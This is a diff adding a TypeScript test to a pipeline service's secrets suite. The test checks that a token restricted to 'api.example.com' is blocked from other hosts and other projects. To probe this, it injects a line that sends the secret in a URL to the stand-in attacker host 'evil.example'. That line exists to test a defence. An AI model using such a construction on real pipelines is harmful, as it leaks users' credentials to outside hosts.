@@ -130,6 +130,25 @@ describe('a secret', () => {
     expect(JSON.stringify(new Secrets([['A', SECRET]]))).toBe('{}');
   });
 
+  test('does not leave for a host that its rule does not list, and stays with its project', async () => {
+    harness.photos(1);
+    await harness.open();
+    await harness.pipelines.close();
+    const rules: [string, string][] = [
+      ['TOKEN', SECRET],
+      ['TOKEN_HOSTS', 'api.example.com'],
+    ];
+    harness.pipelines = harness.service({ secrets: new Secrets(rules) });
+    harness.pipelines.work();
+    const away = source.replace('data:${{ secrets.TOKEN }}', 'https://evil.example/${{ secrets.TOKEN }}');
+    const view = await harness.run(away);
+    expect(view.failures[0]!.reason).toContain('PERCEPT_SECRET_TOKEN_HOSTS');
+    expect(harness.host.calls).toEqual([]);
+    await expect(harness.start(source, { payer: { projectId: 'prj_other', keyId: null } })).rejects.toMatchObject({
+      details: { field: 'secrets', reason: expect.stringMatching(/PERCEPT_SECRET_TOKEN_PROJECTS/) },
+    });
+  });
+
   test('that is not set keeps the run from starting and says where to set it', async () => {
     harness.photos(1);
     await harness.open();
